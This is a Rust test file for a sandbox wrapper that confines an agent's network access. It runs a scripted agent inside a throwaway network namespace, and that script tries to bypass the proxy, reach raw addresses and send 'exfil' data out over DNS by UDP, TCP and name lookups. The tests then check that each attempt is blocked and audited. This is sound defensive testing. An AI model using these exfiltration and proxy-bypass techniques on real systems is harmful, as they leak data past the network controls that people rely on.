//! The network floor, in a network namespace the test makes itself: its "outside" is a few
//! documentation addresses (198.51.100.0/24) on that namespace's loopback, with two web
//! servers (`allowed.test`, `denied.test`, `other.test` through a hosts file of its own) and a
//! DNS listener (UDP and TCP, on the outside and on 127.0.0.53) that records every byte it
//! gets. The wrapper runs there; its agent's tree tries to reach the outside directly, by
//! name and by address, through the proxy (HTTP, CONNECT, SOCKS5) and through DNS. What the
//! servers received is read from their logs, what was refused from the audit log. The same
//! agent with `--floor off` reaches everything, which shows each check can fail.
//!
//! The namespace also has this machine's loopback services (HTTP on 127.0.0.1:8080 and
//! [::1]:8080), for the connections the floor carries out of the agent's namespace, and the
//! other `[floor.net]` settings each have a test: `unknown = "ask"` (nobody to ask: the fail
//! mode; a person on the approvals page, reached from a thread that enters the namespace),
//! `loopback = false`, and `enabled = false` (the network open, the files still confined).

use ahp_wrap_testkit::approvals;
use ahp_wrap_testkit::common;
mod credentials;
mod names;
mod settings;
mod told;

use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use common::*;

/// The outside: two HTTP servers and a DNS sink, logging what reaches them.
const OUTSIDE: &str = r#"
import socket, sys, threading, http.server, os
d = sys.argv[1]
def log(name, text):
    with open(os.path.join(d, name), "a") as f:
        f.write(text + "\n")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        log("http.log", self.server.server_address[0] + " " + self.path)
        body = b"outside says hello\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
for addr in ["198.51.100.1", "198.51.100.2"]:
    s = http.server.ThreadingHTTPServer((addr, 80), H)
    threading.Thread(target=s.serve_forever, daemon=True).start()
# This machine's loopback services (a dev server), outside the agent's namespace.
class H6(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
for cls, addr in [(http.server.ThreadingHTTPServer, "127.0.0.1"), (H6, "::1")]:
    try:
        s = cls((addr, 8080), H)
    except OSError as e:
        log("outside.log", "cannot listen on " + addr + ": " + str(e))
        continue
    threading.Thread(target=s.serve_forever, daemon=True).start()
def udp(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    while True:
        data, _ = s.recvfrom(4096)
        log("dns.log", "udp " + addr + " " + repr(data))
def tcp(addr):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 53))
    s.listen()
    while True:
        c, _ = s.accept()
        c.settimeout(2)
        try:
            data = c.recv(4096)
        except Exception:
            data = b""
        log("dns.log", "tcp " + addr + " " + repr(data))
        c.close()
for addr in ["198.51.100.53", "127.0.0.53"]:
    threading.Thread(target=udp, args=(addr,), daemon=True).start()
    threading.Thread(target=tcp, args=(addr,), daemon=True).start()
open(os.path.join(d, "ready"), "w").close()
threading.Event().wait()
"#;

/// What the test's namespace is set up with before the wrapper starts in it.
const SETUP: &str = r#"
set -e
echo $$ > "$NET_DIR/pid"
ip link set lo up
ip -6 addr show dev lo > "$NET_DIR/ip6" 2>&1 || true
for a in 198.51.100.1 198.51.100.2 198.51.100.53; do ip addr add $a/32 dev lo; done
ip addr add 127.0.0.53/8 dev lo
mount --bind "$NET_DIR/hosts" /etc/hosts
mount --bind "$NET_DIR/resolv.conf" /etc/resolv.conf
"$PYTHON" "$NET_DIR/outside.py" "$NET_DIR" </dev/null >/dev/null 2>&1 &
outside=$!
for i in $(seq 100); do [ -e "$NET_DIR/ready" ] && break; sleep 0.05; done
set +e
"$WRAP" "$@"
code=$?
kill $outside
exit $code
"#;

/// The agent: every way out it can think of, each result on its stdout.
const AGENT: &str = r#"
curl -s -m 5 --noproxy '*' http://198.51.100.1/direct-by-address; echo "direct-by-address=$?"
curl -s -m 5 --noproxy '*' http://allowed.test/direct-by-name; echo "direct-by-name=$?"
curl -s -m 5 --noproxy '*' http://other.test/direct-unknown; echo "direct-unknown=$?"
curl -s -m 5 --noproxy '*' http://denied.test/direct-denied; echo "direct-denied=$?"
curl -s -m 10 http://allowed.test/proxied; echo "proxied=$?"
curl -s -m 10 -p -x "$HTTPS_PROXY" http://allowed.test/tunnel; echo "tunnel=$?"
curl -s -m 10 -x "$ALL_PROXY" http://allowed.test/socks; echo "socks=$?"
curl -s -m 10 http://denied.test/denied; echo "denied=$?"
curl -s -m 10 http://other.test/unknown; echo "unknown=$?"
curl -s -m 10 http://0xc6336401/raw-address; echo "raw=$?"
"$PYTHON" - <<'EOF'
import socket
for addr in [("198.51.100.53", 53), ("127.0.0.53", 53)]:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"exfil-udp-secret", addr)
        print("udp-sent", addr[0])
    except OSError as e:
        print("udp-refused", addr[0], e.errno)
    try:
        c = socket.create_connection(addr, 3)
        c.send(b"exfil-tcp-secret")
        c.close()
        print("tcp-sent", addr[0])
    except OSError as e:
        print("tcp-refused", addr[0], e.errno)
EOF
getent hosts exfil-secret.example; echo "resolver=$?"
"#;

struct Net {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Net {
    fn new() -> Net {
        Net::with_policy(
            "version = 1\n[floor.net]\nallow = [\"allowed.test\"]\ndeny = [\"denied.test\"]\nunknown = \"block\"\n",
        )
    }

    /// The namespace's files, with `policy` as the run's policy file.
    fn with_policy(policy: &str) -> Net {
        let hosts = "127.0.0.1 localhost\n::1 localhost\n\
                     198.51.100.1 allowed.test other.test approved.test declined.test\n\
                     198.51.100.2 denied.test\n";
        Net::with_files(policy, hosts, &[])
    }

    /// The namespace's files: `policy`, the namespace's `hosts` file, and `more`.
    fn with_files(policy: &str, hosts: &str, more: &[(&str, &str)]) -> Net {
        let resolv = "nameserver 198.51.100.53\noptions timeout:1 attempts:1\n";
        let mut files = vec![
            ("outside.py", OUTSIDE),
            ("hosts", hosts),
            ("resolv.conf", resolv),
            ("policy.toml", policy),
        ];
        files.extend_from_slice(more);
        let (dir, root) = outside_tree("floor-net-", &["ws"], &files);
        Net { _dir: dir, root }
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.root.join(name)).unwrap_or_default()
    }

    /// The agent under the wrapper, in the test's own user, network and mount namespace.
    fn run(&self, floor: bool) -> Output {
        let off: &[&str] = if floor { &[] } else { &["--floor", "off"] };
        self.run_with(off, AGENT)
    }

    /// `agent` (a shell script) under the wrapper with `args` besides the usual ones, in the
    /// test's own namespaces. The run has its own process group: never the terminal's
    /// foreground one, so the wrapper has no terminal to ask a person on.
    fn run_with(&self, args: &[&str], agent: &str) -> Output {
        let user: &[&str] = &["--user", "--map-root-user"];
        self.run_in(user, SETUP, args, agent)
    }

    /// `agent` under the wrapper with `args`, in namespaces `unshare` makes with `user` (its
    /// user namespace options) and set up by the script `setup` (which ends running the
    /// wrapper with its arguments).
    fn run_in(&self, user: &[&str], setup: &str, args: &[&str], agent: &str) -> Output {
        let mut cmd = Command::new("unshare");
        cmd.args(user)
            .args(["--net", "--mount", "--", "sh", "-c", setup, "setup"])
            .args(["--no-intercept", "--summary", "never", "--policy"])
            .arg(self.root.join("policy.toml"))
            .arg("--audit-log")
            .arg(self.root.join("audit.jsonl"))
            .args(args)
            .args(["--", "sh", "-c", agent])
            .process_group(0)
            .current_dir(self.root.join("ws"))
            .env("NET_DIR", &self.root)
            .env("WRAP", wrap_bin())
            .env("PYTHON", python())
            .env_remove("AHP_WRAP_FLOOR")
            .env_remove("HTTP_PROXY")
            .env_remove("HTTPS_PROXY")
            .env_remove("ALL_PROXY")
            .env_remove("http_proxy")
            .env_remove("https_proxy")
            .env_remove("all_proxy");
        run(&mut cmd, Duration::from_secs(120))
    }

    /// Every record of the audit log.
    fn records(&self) -> Vec<serde_json::Value> {
        self.read("audit.jsonl")
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .collect()
    }

    /// The audit log's records of `net` events to `host`.
    fn net_records(&self, host: &str) -> Vec<serde_json::Value> {
        self.records()
            .into_iter()
            .filter(|r| r.pointer("/payload/tool_name").and_then(|v| v.as_str()) == Some("net"))
            .filter(|r| {
                r.pointer("/payload/arguments/host")
                    .and_then(|v| v.as_str())
                    == Some(host)
            })
            .collect()
    }

    /// The `net` decisions in the audit log: (host, port, decision, source).
    fn net_decisions(&self) -> Vec<(String, u64, String, String)> {
        self.records()
            .into_iter()
            .filter(|r| r.pointer("/payload/tool_name").and_then(|v| v.as_str()) == Some("net"))
            .map(|r| {
                let s = |p: &str| {
                    r.pointer(p)
                        .and_then(|v| v.as_str())
                        .unwrap_or("")
                        .to_owned()
                };
                (
                    s("/payload/arguments/host"),
                    r.pointer("/payload/arguments/port")
                        .and_then(|v| v.as_u64())
                        .unwrap_or(0),
                    s("/decision"),
                    s("/source"),
                )
            })
            .collect()
    }
}

/// The real interpreter (a version manager's shim may not find its home on the floor).
fn python() -> String {
    let out = Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

fn usable() -> bool {
    let ok = Command::new("unshare")
        .args(["--user", "--map-root-user", "--net", "--mount", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        eprintln!("skipped: this machine cannot make a user and network namespace for the test");
    }
    ok && Path::new("/usr/bin/curl").exists()
}

fn line<'a>(out: &'a str, key: &str) -> Option<&'a str> {
    out.lines()
        .find_map(|l| l.strip_prefix(key).and_then(|r| r.strip_prefix('=')))
}

#[test]
fn the_tree_reaches_the_outside_only_through_the_proxy_and_as_the_policy_says() {
    if !usable() {
        return;
    }
    let net = Net::new();
    let out = net.run(true);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let http = net.read("http.log");
    let dns = net.read("dns.log");
    let why = format!("{}\nhttp.log:\n{http}\ndns.log:\n{dns}", show(&out));

    // What the proxy let through reached the outside, by each of its three ways, and so did
    // a connection to an allowed name that ignored the proxy (carried by name).
    for path in ["/proxied", "/tunnel", "/socks", "/direct-by-name"] {
        assert!(
            http.contains(&format!("198.51.100.1 {path}\n")),
            "{path} did not arrive:\n{why}"
        );
    }
    assert_eq!(line(&stdout, "proxied"), Some("0"), "{why}");
    // Nothing else did: not direct, not a denied host, not an unknown one, not a raw address.
    for path in [
        "/direct-by-address",
        "/direct-unknown",
        "/direct-denied",
        "/denied",
        "/unknown",
        "/raw-address",
    ] {
        assert!(!http.contains(path), "{path} reached the outside:\n{why}");
    }
    // No DNS left the tree, by UDP or TCP, to the outside or to a loopback resolver.
    assert!(!dns.contains("exfil"), "DNS carried data out:\n{why}");
    assert!(
        !dns.contains("udp ") && !dns.contains("tcp "),
        "the DNS sink was reached:\n{why}"
    );

    let decisions = net.net_decisions();
    let decided = |host: &str, decision: &str, source: &str| {
        decisions
            .iter()
            .any(|(h, _, d, s)| h == host && d == decision && s.starts_with(source))
    };
    assert!(decided("allowed.test", "allow", ""), "{decisions:?}\n{why}");
    // Each connection names the process that asked: curl, with the agent's shell above it.
    let askers: Vec<serde_json::Value> = net
        .read("audit.jsonl")
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| {
            r.pointer("/payload/arguments/host")
                .and_then(|v| v.as_str())
                == Some("allowed.test")
        })
        .map(|r| {
            r.pointer("/payload/context/process/argv/0")
                .cloned()
                .unwrap_or_default()
        })
        .collect();
    assert!(
        !askers.is_empty() && askers.iter().all(|a| a == "curl"),
        "the asking process is not curl in every net event: {askers:?}\n{why}"
    );
    assert!(
        decided("denied.test", "block", "floor"),
        "{decisions:?}\n{why}"
    );
    assert!(
        decided("other.test", "block", "floor"),
        "{decisions:?}\n{why}"
    );
    assert!(
        decided("198.51.100.1", "block", "floor"),
        "raw address: {decisions:?}\n{why}"
    );
    // The direct attempts were refused by the floor and audited, with where they went.
    assert!(
        decisions
            .iter()
            .any(|(h, p, d, _)| h == "198.51.100.1" && *p == 80 && d == "block"),
        "{decisions:?}\n{why}"
    );
    assert!(
        decisions
            .iter()
            .any(|(h, p, d, _)| (h == "198.51.100.53" || h == "127.0.0.53")
                && *p == 53
                && d == "block"),
        "no audited DNS refusal: {decisions:?}\n{why}"
    );
    // A datagram to the outside is refused (EACCES) and audited with its process, not only
    // dropped for want of a route.
    assert!(
        stdout.contains(&format!("udp-refused 198.51.100.53 {}", libc::EACCES)),
        "{why}"
    );
    let datagram = net
        .read("audit.jsonl")
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|r| {
            r.pointer("/reason")
                .and_then(|v| v.as_str())
                .is_some_and(|t| t.contains("198.51.100.53:53: a datagram to the outside"))
        });
    let datagram = datagram.unwrap_or_else(|| panic!("no datagram refusal audited\n{why}"));
    assert_eq!(datagram["decision"], "block", "{datagram}");
    assert!(
        datagram
            .pointer("/payload/context/process/argv/0")
            .is_some(),
        "{datagram}"
    );
}

#[test]
fn without_the_floor_the_same_agent_reaches_everything() {
    if !usable() {
        return;
    }
    let net = Net::new();
    let out = net.run(false);
    let http = net.read("http.log");
    let dns = net.read("dns.log");
    let why = format!("{}\nhttp.log:\n{http}\ndns.log:\n{dns}", show(&out));
    assert!(http.contains("198.51.100.1 /direct-by-address\n"), "{why}");
    assert!(http.contains("198.51.100.1 /direct-by-name\n"), "{why}");
    assert!(dns.contains("exfil-udp-secret"), "{why}");
    assert!(dns.contains("exfil-tcp-secret"), "{why}");
}
